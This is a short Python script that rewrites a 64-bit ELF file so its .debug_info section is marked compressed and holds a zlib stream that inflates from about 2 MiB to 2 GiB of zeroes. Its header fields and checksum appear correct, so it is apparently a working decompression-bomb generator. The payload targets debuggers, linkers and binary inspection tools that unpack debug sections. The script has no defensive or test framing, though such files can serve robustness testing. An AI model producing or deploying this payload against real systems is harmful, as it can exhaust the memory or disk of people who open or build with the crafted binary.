#!/usr/bin/env python3
"""bomb.py IN OUT: the 64-bit ELF file IN with a .debug_info that says, and is, 2 GiB of
zeroes in some 2 MiB: no more than deflate can do."""
import struct
import sys
import zlib

CHUNK, CHUNKS = 1 << 20, 2048

source = bytearray(open(sys.argv[1], "rb").read())
packer = zlib.compressobj(9, zlib.DEFLATED, -15)
chunk = packer.compress(bytes(CHUNK)) + packer.flush(zlib.Z_FULL_FLUSH)
end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
# of zeroes: one, and so many times one
adler = ((CHUNK * CHUNKS) % 65521) << 16 | 1
stream = b"\x78\xda" + chunk * CHUNKS + end + struct.pack(">I", adler)
packed = struct.pack("<IIQQ", 1, 0, CHUNK * CHUNKS, 1) + stream
table, = struct.unpack_from("<Q", source, 0x28)
count, names = struct.unpack_from("<HH", source, 0x3C)
text, = struct.unpack_from("<Q", source, table + names * 64 + 24)
for i in range(count):
    at = table + i * 64
    name, = struct.unpack_from("<I", source, at)
    if source[text + name:].startswith(b".debug_info\0"):
        struct.pack_into("<Q", source, at + 8, 0x800)  # SHF_COMPRESSED
        struct.pack_into("<QQ", source, at + 24, len(source), len(packed))
        break
else:
    sys.exit("no .debug_info")
open(sys.argv[2], "wb").write(source + packed)
